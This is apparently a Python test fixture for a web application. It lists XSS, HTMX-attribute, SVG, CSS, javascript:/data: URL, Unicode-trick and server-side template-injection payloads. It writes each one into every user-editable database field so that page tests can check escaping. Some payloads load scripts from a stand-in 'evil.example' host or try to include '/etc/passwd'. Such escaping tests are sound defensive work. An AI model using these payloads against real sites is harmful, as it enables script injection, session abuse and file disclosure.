"""Texts that would do harm where they are not escaped, and a database in which they stand wherever somebody writes."""

from __future__ import annotations

import re

from sqlalchemy import update

from elluminate_server.domain.scenarios import BUILT_IN_FIELDS
from elluminate_server.store.engine import Store
from elluminate_server.store.tables import (
    Collection,
    Entry,
    Experiment,
    LLMConfig,
    LogLine,
    Persona,
    PersonaGroup,
    PersonaGroupMember,
    PersonaVersion,
    Response,
    Task,
)
from tests.server.pages.filling import fill
from tests.server.pages.looking import HOSTILE

__all__ = ["ATTACKS", "attack", "furnish_with_personas", "shown"]

_SCRIPTS = (
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!--",
    "<script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT\t>alert(1)</SCRIPT\n>",
)
_EVENTS = (
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
)
_HTMX = (
    '" hx-get="/logout" hx-trigger="load" x="',
    '"><div hx-on:click="alert(1)" hx-get="https://evil.example">',
    "<div hx-on::load='alert(1)'>",
    "<div data-hx-get='https://evil.example/' data-hx-trigger=load>",
    "<div hx-post='/projects/1/experiments/1/cancel' hx-trigger='load'>",
    "<div hx-vals='js:{x: alert(1)}' hx-get=/ hx-trigger=load>",
    "<div hx-ext=json-enc hx-boost=true><a href=https://evil.example>x</a></div>",
    "<meta name=htmx-config content='{\"allowEval\": true}'>",
    "<a data-key=j href=https://evil.example>x</a>",
)
_DRAWINGS = (
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script href=https://evil.example/x.js></script></svg>",
    "<svg><use href='https://evil.example/x.svg#y'/></svg>",
    "<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
)
_STYLES = (
    '" style="background:url(https://evil.example/x)" x="',
    "<p style='position:fixed;inset:0'>covered</p>",
    "</style><style>*{background:url(//evil.example)}</style>",
)
_ADDRESSES = (
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<img src=https://evil.example/pixel.gif>",
    "<object data=https://evil.example/x>",
    "//evil.example/",
)
_CHARACTERS = (
    "\u202eevil\u202c\u2066x\u2069\u200f",
    "zero\u200bwidth\u200djoined\ufeff\u2060",
    "a\x00b\x1bc\x7fd\x85e",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;script&#x3e;",
)
_TEMPLATES = (
    "{{ 7 * 7 }}{% raw %}{{ visit.of.token }}",
    "{% include '/etc/passwd' %}{# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}#{7*7}<%= 7*7 %>",
)
ATTACKS = (
    *HOSTILE, *_SCRIPTS, *_EVENTS, *_HTMX, *_DRAWINGS, *_STYLES, *_ADDRESSES, *_CHARACTERS, *_TEMPLATES
)  # fmt: skip


def shown(text: str) -> str:
    """A text as pages show it: without what turns its direction, or HTML cannot hold."""
    return re.sub("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", "\ufffd", text)


async def attack(store: Store) -> dict[str, tuple[int, int]]:
    """For each text an experiment in which everything that somebody writes is that text.

    Returns:
        By text: the ids of the experiment, and of an answer of it.
    """
    found: dict[str, tuple[int, int]] = {}
    for number, text in enumerate(ATTACKS):
        if "\x00" in text and not store.is_sqlite:
            continue  # which stores none
        braces = text.replace("{", "{{").replace("}", "}}")
        criteria = [text, f"{text} too"]
        experiment_id = await fill(
            store, rows=1, name=text, criteria=criteria, topic=braces, answer=braces, reasoning=braces
        )
        async with store.write() as session:
            config = LLMConfig(project_id=1, name=text, llm_model_name=text, system_message=text)
            task = Task(id=f"{number:032x}", project_id=1, experiment_id=experiment_id, kind="experiment")
            task.status, task.error_msg = "FAILURE", text
            session.add_all([config, task])
            await session.flush()
            session.add(LogLine(task_id=task.id, line=text))
            row = await session.get_one(Experiment, experiment_id)
            row.description, row.llm_config_id = text, config.id
            collection = await session.get_one(Collection, row.collection_id)
            collection.description = text
            answered = update(Response).where(Response.experiment_id == experiment_id).returning(Response.id)
            written = {"annotation": text, "termination_reason": text, "trajectory": _steps(text)}
            response_id = await session.scalar(answered.values(written))
            assert response_id is not None
            found[text] = experiment_id, response_id
    return found


async def furnish_with_personas(store: Store) -> dict[str, str]:
    """For each text a persona in two versions, a group and a scenario set in which everything is that text.

    Returns:
        By the path of a page: what is to stand in it.
    """
    found: dict[str, str] = {}
    async with store.write() as session:
        for text in ATTACKS:
            if "\x00" in text and not store.is_sqlite:
                continue  # which stores none
            persona = Persona(project_id=1, name=text)
            group = PersonaGroup(project_id=1, name=text, description=text)
            scenarios = Collection(
                project_id=1, name=f"{text} scenarios", description=text, is_scenario_set=True
            )
            session.add_all([persona, group, scenarios])
            await session.flush()
            session.add_all(
                PersonaVersion(persona_id=persona.id, version=number, description=text, domain_knowledge=text)
                for number in (1, 2)
            )
            scenario = Entry(
                collection_id=scenarios.id,
                input_values=dict.fromkeys(BUILT_IN_FIELDS, text),
                identity=f"{persona.id:064x}",
            )
            member = PersonaGroupMember(persona_group_id=group.id, persona_id=persona.id, position=0)
            session.add_all([scenario, member])
            await session.flush()
            found |= dict.fromkeys(
                (
                    f"/projects/1/personas/{persona.id}",
                    f"/projects/1/persona-groups/{group.id}",
                    f"/projects/1/scenario-sets/{scenarios.id}",
                    f"/projects/1/scenario-sets/{scenarios.id}/scenarios/{scenario.id}",
                ),
                text,
            )
    return found


def _steps(text: str) -> dict[str, object]:
    call = {"tool_call_id": "1", "function_name": text, "arguments": {text: text}}
    step = {"step_id": 1, "source": "agent", "message": text, "reasoning_content": text}
    return {"steps": [step | {"tool_calls": [call], "observation": {"results": [{"content": text}]}}]}
